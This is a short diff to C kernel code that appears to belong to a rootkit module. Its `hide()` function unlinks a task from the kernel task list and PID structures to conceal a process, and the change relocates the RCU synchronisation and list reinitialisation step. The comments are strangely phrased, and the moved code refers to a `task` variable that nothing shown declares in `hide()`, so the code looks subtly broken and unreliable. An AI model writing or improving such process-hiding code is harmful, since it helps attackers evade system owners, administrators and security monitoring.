@@ -79,9 +79,6 @@ static void leave_tasks(void)
 	list_del_rcu(&task->tasks);
 	write_unlock_irq(tasks_lock);
 	note_time();
-	/* Whoever is at it in the list goes on to the next before it is a list. */
-	synchronize_rcu();
-	INIT_LIST_HEAD(&task->tasks);
 	out_of_tasks = true;
 }
 
@@ -130,6 +127,11 @@ static int hide(void)
 		leave_tasks();
 	if (!strcmp(how, "pids") || !strcmp(how, "both"))
 		leave_pids();
+	if (out_of_tasks) {
+		/* Whoever is at it in the list goes on before it is one of its own. */
+		synchronize_rcu();
+		INIT_LIST_HEAD(&task->tasks);
+	}
 	return out_of_tasks || out_of_pids ? 0 : -EINVAL;
 }
 
